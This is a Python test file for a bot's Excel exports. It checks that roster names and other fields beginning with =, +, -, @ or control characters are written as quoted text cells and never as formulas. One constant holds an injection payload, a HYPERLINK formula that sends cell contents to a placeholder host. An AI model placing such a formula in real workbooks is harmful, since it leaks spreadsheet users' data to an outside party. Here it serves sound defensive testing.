"""Formula injection (issue #11 point 6): a name written as "=HYPERLINK(…)" by whoever filled
a roster must come out of every workbook the bot hands out as text, never as a formula.

Each export is built from its own inputs and the written .xlsx is read back with openpyxl:
a formula cell has data_type "f"; a text cell "s", with Excel's quote prefix set so that
re-editing the cell does not turn it into a formula either."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from models.courses.catalogue import Course, CourseStatus
from models.courses.registrations import Registration, RegStatus
from models.exports.compliance import compliance_workbook
from models.exports.registrations import CourseRegistrations, Registrant, registrations_workbook
from models.exports.sheets import append_row, is_risky, put
from models.imports.cells import RowError
from models.imports.plan import Plan, error_workbook
from models.imports.roster_template import roster_template_xlsx
from models.org.officials import Official
from models.org.units import OrgUnit
from models.requirements.compliance import ComplianceReport, TargetCompliance
from models.requirements.compliance_breakdown import Breakdown
from models.requirements.model import Target, Text

ATTACK = '=HYPERLINK("http://x.example/?"&F12&F13, "Nguyễn Văn B")'
OTHER_STARTS = ["+84912345678", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def _cells_holding(content: bytes, text: str) -> list[Cell]:
    workbook = load_workbook(io.BytesIO(content))
    found = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and text in cell.value
    ]
    assert found, f"{text!r} is not in the workbook"
    return found


def _assert_text(content: bytes, text: str = ATTACK) -> None:
    for cell in _cells_holding(content, text):
        assert cell.data_type == "s", (cell.coordinate, cell.data_type)
        if is_risky(cell.value):
            assert cell.quotePrefix, cell.coordinate


def test_the_helper_keeps_every_risky_start_as_text() -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    append_row(sheet, [ATTACK, *OTHER_STARTS, "Lò Thị Nhung", 5, None])
    put(sheet.cell(row=2, column=1), ATTACK)
    buffer = io.BytesIO()
    workbook.save(buffer)
    back = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert back is not None
    assert back["A1"].value == ATTACK and back["A1"].data_type == "s" and back["A1"].quotePrefix
    for col, text in enumerate(OTHER_STARTS, start=2):
        cell = back.cell(row=1, column=col)
        # XML turns a lone CR into LF on reading; what matters is that it stays text.
        assert cell.value == text.replace("\r", "\n")
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
    plain = back.cell(row=1, column=len(OTHER_STARTS) + 2)
    assert plain.value == "Lò Thị Nhung" and not plain.quotePrefix
    assert back.cell(row=1, column=len(OTHER_STARTS) + 3).data_type == "n"
    assert back["A2"].data_type == "s" and back["A2"].quotePrefix


def test_registrations_export_writes_a_formula_name_as_text() -> None:
    course = Course(
        id=1,
        code="=K-1",
        title=ATTACK,
        kind="qlnn",
        organiser="@Trường Chính trị",
        place="+84 gọi 0999 để nộp phí",
        starts_on=date(2026, 12, 14),
        ends_on=date(2026, 12, 18),
        capacity=30,
        seats_taken=1,
        registration_closes_on=date(2026, 12, 10),
        status=CourseStatus.OPEN,
    )
    official = Official(
        id=7, employee_code="-DB1", full_name=ATTACK, post_title="=1+1", phone="+84912000001"
    )
    registration = Registration(
        id=1,
        course_id=1,
        official_id=7,
        status=RegStatus.CONFIRMED,
        requested_at=datetime(2026, 12, 1, 2, 0, tzinfo=UTC),
    )
    data = CourseRegistrations(course, (Registrant(registration, official, ATTACK, None),), 0)
    content = registrations_workbook(
        data, scope_name="=scope", tz=ZoneInfo("Asia/Ho_Chi_Minh"), now=datetime.now(UTC)
    )
    _assert_text(content)
    for text in ("-DB1", "=1+1", "=scope"):
        _assert_text(content, text)


def test_compliance_report_writes_a_formula_unit_name_as_text() -> None:
    target = Target("t1", "r1", 0.8, Text(ATTACK), None)
    report = ComplianceReport(2026, date(2026, 12, 1), 1, 3, (), (TargetCompliance(target, 3, 2),))
    unit = OrgUnit(id=2, code="X", name=ATTACK, level="commune", path="/1/2/")
    data = Breakdown(report, ((unit, report),), (("=level", report),))
    content = compliance_workbook(data, scope_name=ATTACK)
    _assert_text(content)
    _assert_text(content, "=level")


def test_error_workbook_writes_a_formula_cell_as_text() -> None:
    plan: Plan[object] = Plan("roster.xlsx", date(2026, 12, 1))
    plan.header_cells = ["Mã cán bộ", "Họ và tên"]
    plan.bad_rows = {2: ("DB1", ATTACK)}
    plan.errors = [RowError(2, "Họ và tên", ATTACK, "“{value}” is wrong", {})]
    _assert_text(error_workbook(plan))


def test_roster_template_cells_go_through_the_helper() -> None:
    # No people in it, but the same path as every other export: its headers are text cells.
    workbook = load_workbook(io.BytesIO(roster_template_xlsx()))
    for sheet in workbook.worksheets:
        for cell in sheet[1]:
            if cell.value is not None:
                assert cell.data_type == "s"


@pytest.mark.parametrize("text", OTHER_STARTS)
def test_is_risky_names_owasps_characters(text: str) -> None:
    assert is_risky(text) and not is_risky("Nguyễn " + text)
